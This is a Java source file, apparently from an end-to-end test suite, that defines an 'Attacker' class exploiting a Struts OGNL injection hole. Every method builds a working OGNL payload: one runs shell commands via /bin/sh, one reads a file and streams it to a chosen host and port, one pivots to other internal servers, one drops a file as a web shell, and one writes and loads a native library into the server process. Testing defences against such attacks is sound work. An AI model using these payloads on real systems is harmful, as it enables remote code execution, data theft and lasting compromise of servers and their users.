package dev.inlay.e2e.attack;

import java.util.List;
import java.util.stream.Collectors;

/// Somebody who knows of the hole, and what he does with it.
public record Attacker(StrutsHole hole) {

    /// Runs a command through a shell.
    ///
    /// @return the status line of the shop's answer, as for all of them
    public String shell(String command) {
        return hole.evaluate("(new java.lang.ProcessBuilder(%s).start())".formatted(list(command)));
    }

    /// Reads a file and sends it to a listener, starting no process at all.
    public String send(String file, String host, int port) {
        return hole.evaluate(
                ("(#bytes=@java.nio.file.Files@readAllBytes(new java.io.File('%s').toPath()))"
                                + ".(#socket=new java.net.Socket('%s',%d))"
                                + ".(#out=new java.io.DataOutputStream(#socket.getOutputStream()))"
                                + ".(#out.write(#bytes)).(#socket.close())")
                        .formatted(file, host, port));
    }

    /// Says a line to a server of the same network: the shop as a stepping stone.
    public String say(String line, String host, int port) {
        return hole.evaluate(
                ("(#socket=new java.net.Socket('%s',%d))"
                                + ".(#out=new java.io.PrintStream(#socket.getOutputStream(),true))"
                                + ".(#out.println('%s'))"
                                + ".(@java.lang.Thread@sleep(200)).(#socket.close())")
                        .formatted(host, port, line));
    }

    /// Leaves a file behind, as a web shell is left.
    public String drop(byte[] content, String path) {
        return hole.evaluate(
                ("(#request=#context['com.opensymphony.xwork2.dispatcher.HttpServletRequest'])"
                                + ".(#out=new java.io.FileOutputStream('%1$s'))"
                                + ".(#request.getInputStream().transferTo(#out)).(#out.close())")
                        .formatted(path),
                content);
    }

    /// Smuggles native code in as if it were a visitor's picture and loads it into the shop's own
    /// process.
    ///
    /// @param path where to put it: a name that the shop itself could have written
    public String load(byte[] library, String path) {
        return hole.evaluate(
                ("(#request=#context['com.opensymphony.xwork2.dispatcher.HttpServletRequest'])"
                                + ".(#out=new java.io.FileOutputStream('%1$s'))"
                                + ".(#request.getInputStream().transferTo(#out)).(#out.close())"
                                + ".(@java.lang.System@load('%1$s'))")
                        .formatted(path),
                library);
    }

    /// `{'/bin/sh','-c','…'}`, as OGNL writes a list.
    private static String list(String command) {
        return List.of("/bin/sh", "-c", command).stream()
                .map(word -> "'" + word + "'")
                .collect(Collectors.joining(",", "{", "}"));
    }
}
